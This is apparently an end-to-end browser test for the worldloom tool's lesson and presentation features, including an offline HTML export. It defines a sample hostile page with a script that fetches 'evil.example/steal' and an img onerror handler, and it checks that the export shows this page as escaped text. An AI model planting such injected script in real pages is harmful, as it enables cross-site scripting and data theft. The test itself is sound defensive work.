// End-to-end check of presentation mode and lessons in Debian Chromium
// (playwright-core), against `worldloom serve` on the web and OS samples:
// captions written and branches added to a lesson from the Lesson dialog;
// presentation mode entered from the top bar (full screen, only the panes,
// the turn strip and the caption), ←/→ stepping, Esc leaving; the lesson
// presented across its two branches; the lesson saved as HTML and opened
// from disk with every request routed and refused (none but the file
// itself is made), stepped through with the keyboard (Tab to "Next →",
// Enter) while the caption changes.
//
//   npm run build && node e2e/lesson.mjs
//
// The binary is $WORLDLOOM_BIN, else $CARGO_TARGET_DIR/debug/worldloom.
// Screenshots go to e2e/screenshots/lesson-*.png.
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { launch, places, serve } from "./browser.mjs";

const { uiDir, repo, shots, bin } = places();
const web = join(repo, "samples", "web", "agentlab_larkmail-reply_6steps.json");
const os = join(repo, "samples", "os", "thunar_rename_trajectory");
const HOSTILE = `<html><body><h1>Predicted inbox</h1><script>fetch("https://evil.example/steal")</script><img src="https://evil.example/p.png" onerror="alert(1)"></body></html>`;

let failures = 0;
function check(ok, what) {
  console.log(`${ok ? "ok  " : "FAIL"} ${what}`);
  if (!ok) failures += 1;
}

const work = mkdtempSync(join(tmpdir(), "worldloom-e2e-lesson-"));
const { url, stop } = await serve(bin, ["--port", "0", "--workspace", join(work, "lesson.worldloom"), "--ui-dir", join(uiDir, "dist"), web, os]);
const origin = new URL(url).origin;
const token = new URL(url).searchParams.get("token");

const browser = await launch({ width: 1600, height: 1000 });
const page = browser.context.pages()[0] ?? (await browser.context.newPage());
const errors = [];
page.on("pageerror", (e) => errors.push(String(e)));
page.on("response", async (r) => r.url().includes("/api/") && console.log(r.status(), r.url(), r.request().postData()?.slice(0, 200)));
await page.goto(url);

/** One API command from the page (same origin, the server's token). */
const api = (command, request) =>
  page.evaluate(
    async ([c, r, t]) => {
      const res = await fetch(`/api/${c}`, {
        method: "POST",
        headers: { "Content-Type": "application/json", Authorization: `Bearer ${t}` },
        body: JSON.stringify(r),
      });
      if (!res.ok) throw new Error(`${c}: ${res.status} ${await res.text()}`);
      return res.json();
    },
    [command, request, token],
  );
const list = await api("list_trajectories", { query: null, domain: null, has_branches: null, max_fidelity: null, sort: null });
const webId = list.trajectories.find((t) => t.domain === "web")?.id;
const osId = list.trajectories.find((t) => t.domain === "os")?.id;
check(!!webId && !!osId, `both samples imported (web ${webId}, os ${osId})`);
// A hostile predicted page on the web trajectory's first turn: the export must show it as text.
await api("author_observation", { trajectory_id: webId, node_id: 1, representation: "html", text: HOSTILE, based_on_prediction: null, note: null });

const turnLabel = () => page.getByLabel("Current turn").first().textContent();
async function open(id, turnIndex) {
  // The studio reads the place from the hash when it loads.
  await page.goto(`${origin}/#t=${id}&turn=${turnIndex}`);
  await page.reload();
  await page.waitForFunction((want) => document.querySelector("[aria-label='Current turn']")?.textContent?.startsWith(want), `turn ${turnIndex + 1} /`);
}
/** Writes the caption of the state shown and adds the branch to the lesson, through the Lesson dialog. */
async function author(caption, lesson) {
  await page.getByRole("button", { name: "Lesson…" }).click();
  const dialog = page.getByRole("dialog", { name: "Lesson" });
  await dialog.getByLabel("Caption").fill(caption);
  await dialog.getByRole("button", { name: "Save caption" }).click();
  await dialog
    .getByText("Caption saved.")
    .waitFor({ timeout: 10_000 })
    .catch(async (e) => {
      await page.screenshot({ path: join(shots, "lesson-failure.png") });
      throw e;
    });
  await dialog.getByLabel("Lesson name").fill(lesson);
  await dialog.getByRole("button", { name: "Add this branch to the lesson" }).click();
  await dialog.getByText(`This branch is in lesson “${lesson}”.`).waitFor();
  await page.screenshot({ path: join(shots, "lesson-dialog.png") });
  await dialog.getByRole("button", { name: "Close" }).last().click();
}

// 1. Authoring: captions on the web trajectory's turn 1 and the OS trajectory's turn 2, both branches in one lesson.
await open(webId, 0);
await author("The inbox opens: the model keeps the unread count", "Week 1");
await open(osId, 1);
await author("Thunar shows the rename field", "Week 1");
const lessons = await api("list_lessons", {});
check(
  JSON.stringify(lessons.lessons) === JSON.stringify([{ name: "Week 1", branch_count: 2 }]),
  `the lesson holds both branches (${JSON.stringify(lessons.lessons)})`,
);

// 2. Presentation mode on the branch shown, from the top bar.
await page.getByRole("button", { name: "Present" }).click();
const show = page.getByRole("dialog", { name: "Presentation" });
await show.waitFor();
const box = await show.boundingBox();
const fullscreen = await page.evaluate(() => document.fullscreenElement?.getAttribute("aria-label") ?? null);
check(!!box && box.width === 1600 && box.height === 1000, `presentation covers the window (${box?.width}×${box?.height}; fullscreen element: ${fullscreen})`);
const step = () => show.getByLabel("Step").textContent();
const caption = () => show.getByLabel("Caption").textContent();
await page.waitForFunction(() => document.querySelector(".presentation [aria-label='Step']")?.textContent?.startsWith("step 1 /"));
const total = Number(((await step()) ?? "").split("/ ")[1]);
check(total > 3, `the OS branch has ${total} steps (its initial state and every turn)`);
check(
  (await show.getByRole("region", { name: "Real observation" }).count()) === 1 &&
    (await show.getByRole("region", { name: "Predicted observation" }).count()) === 1 &&
    (await show.getByRole("combobox", { name: "Prediction shown" }).count()) === 0 &&
    (await show.locator(".side-column").count()) === 0 &&
    (await show.locator(".tl-strip").count()) === 1,
  "only the real and predicted panes, the turn strip and the caption are shown",
);
await page.keyboard.press("ArrowRight");
await page.keyboard.press("ArrowRight");
await page.waitForFunction(() => document.querySelector(".presentation [aria-label='Step']")?.textContent?.startsWith("step 3 /"));
check((await caption()) === "Thunar shows the rename field", `→ twice reaches turn 2 and its caption (${await caption()})`);
await page.waitForTimeout(500);
await page.screenshot({ path: join(shots, "lesson-present-branch.png") });
await page.keyboard.press("ArrowLeft");
await page.waitForFunction(() => document.querySelector(".presentation [aria-label='Step']")?.textContent?.startsWith("step 2 /"));
check((await caption()) === "", "← goes back to turn 1, which has no caption");
await page.keyboard.press("Escape");
await show.waitFor({ state: "detached" });
check((await turnLabel())?.startsWith("turn 2 /") ?? false, "Esc leaves presentation mode; the studio is where it was");
check((await page.evaluate(() => document.fullscreenElement)) === null, "and full screen is left");

// 3. The lesson presented: the web branch, then the OS branch.
await page.getByRole("button", { name: "Lesson…" }).click();
await page.getByRole("dialog", { name: "Lesson" }).getByLabel("Lesson name").fill("Week 1");
await page.getByRole("button", { name: "Present the lesson" }).click();
await show.waitFor();
await page.waitForFunction(() => document.querySelector(".presentation h1")?.textContent === "Week 1");
await page.waitForFunction(() => document.querySelector(".presentation [aria-label='Step']")?.textContent?.startsWith("step 1 /"));
const lessonTotal = Number(((await step()) ?? "").split("/ ")[1]);
await page.keyboard.press("ArrowRight");
await page.waitForFunction(() => document.querySelector(".presentation [aria-label='Step']")?.textContent?.startsWith("step 2 /"));
check(
  (await caption()) === "The inbox opens: the model keeps the unread count",
  `the lesson's second step is the web turn 1 with its caption (${await caption()})`,
);
await page.waitForTimeout(500);
await page.screenshot({ path: join(shots, "lesson-present-lesson.png") });
await page.keyboard.press("End");
await page.waitForFunction((n) => document.querySelector(".presentation [aria-label='Step']")?.textContent === `step ${n} / ${n}`, lessonTotal);
const where = (await show.locator(".present-where").textContent()) ?? "";
const view = await api("get_lesson", { lesson: "Week 1", trajectory_id: null, branch_id: null });
const webSteps = view.branches[0].turns.length + 1;
check(
  where.includes("branch 2 of 2") && view.branches[0].trajectory_id === webId && lessonTotal === webSteps + total,
  `End reaches the last step of the second branch (${where}; ${lessonTotal} steps = ${webSteps} + ${total})`,
);
await page.keyboard.press("Escape");
await show.waitFor({ state: "detached" });

// 4. The lesson as one HTML file, opened from disk with every request refused.
await page.getByRole("button", { name: "Lesson…" }).click();
const dialog = page.getByRole("dialog", { name: "Lesson" });
await dialog.getByLabel("Lesson name").fill("Week 1");
const [download] = await Promise.all([page.waitForEvent("download"), dialog.getByRole("button", { name: "Export the lesson as HTML" }).click()]);
const file = join(work, download.suggestedFilename());
await download.saveAs(file);
check(download.suggestedFilename() === "lesson-Week-1.html", `the lesson is saved as ${download.suggestedFilename()}`);
const html = readFileSync(file, "utf8");
const refs = [...html.matchAll(/\s(?:href|src|action|srcset|poster|data)\s*=\s*"([^"]*)"/gi)].map((m) => m[1]);
check(!/<script|<iframe|<img|<link|<object|<embed/i.test(html), "the file holds no script, frame, image, link or object");
check(
  refs.length > 0 && refs.every((r) => r.startsWith("#")),
  `every reference is an anchor (${refs.length}: ${refs.filter((r) => !r.startsWith("#")).join(", ")})`,
);
check(html.includes("&lt;script&gt;fetch(&quot;https://evil.example/steal&quot;)"), "the hostile predicted page is there as escaped text");
await page.keyboard.press("Escape");

const offline = await browser.context.newPage();
const fileUrl = pathToFileURL(file).href;
const requests = [];
await offline.route("**/*", (route) => {
  const u = route.request().url();
  requests.push(u);
  return u.split("#")[0] === fileUrl ? route.continue() : route.abort();
});
offline.on("pageerror", (e) => errors.push(`lesson file: ${e}`));
await offline.goto(fileUrl);
const visible = () =>
  offline.evaluate(() => {
    const shown = [...document.querySelectorAll(".page")].filter((e) => getComputedStyle(e).display !== "none");
    return shown.map((e) => ({ id: e.id, caption: e.querySelector(".caption")?.textContent ?? null }));
  });
const first = await visible();
check(first.length === 1 && first[0].id === "s1", `one section at a time, the first on opening (${JSON.stringify(first)})`);
await offline.screenshot({ path: join(shots, "lesson-file-first.png") });
/** Tab to the shown section's "Next →" link and press Enter. */
async function next() {
  for (let i = 0; i < 12; i += 1) {
    await offline.keyboard.press("Tab");
    const focused = await offline.evaluate(() => (document.activeElement?.textContent ?? "") + "|" + (document.activeElement?.closest(".page")?.id ?? ""));
    const [text, section] = focused.split("|");
    const shownId = (await visible())[0]?.id;
    if (text === "Next →" && section === shownId) {
      await offline.keyboard.press("Enter");
      return;
    }
  }
  throw new Error("no Next → link reached with Tab");
}
await next();
const second = await visible();
check(
  second.length === 1 && second[0].id === "s2" && second[0].caption === "The inbox opens: the model keeps the unread count" && offline.url().endsWith("#s2"),
  `Tab, Enter on "Next →" shows step 2 and its caption changes (${JSON.stringify(second)})`,
);
const predicted = (await offline.locator("#s2 .side").nth(1).textContent()) ?? "";
check(predicted.includes('<script>fetch("https://evil.example/steal")</script>'), "the hostile prediction reads as its source text");
await offline.screenshot({ path: join(shots, "lesson-file-step2.png") });
// Into the second branch by its anchor: the OS turn 2.
const osStep = webSteps + 3;
await offline.goto(`${fileUrl}#s${osStep}`);
const third = await visible();
check(third[0]?.caption === "Thunar shows the rename field", `the OS turn 2 by its anchor #s${osStep} (${JSON.stringify(third)})`);
const offsite = requests.filter((u) => u.split("#")[0] !== fileUrl);
check(requests.length >= 1 && offsite.length === 0, `the file requested nothing but itself (${requests.length} requests; others: ${offsite.join(", ")})`);
await offline.close();

check(errors.length === 0, `no page errors ${errors.join("; ")}`);
await browser.close();
stop();
rmSync(work, { recursive: true, force: true });
console.log(failures === 0 ? "lesson e2e: all checks passed" : `lesson e2e: ${failures} failed`);
process.exit(failures === 0 ? 0 : 1);
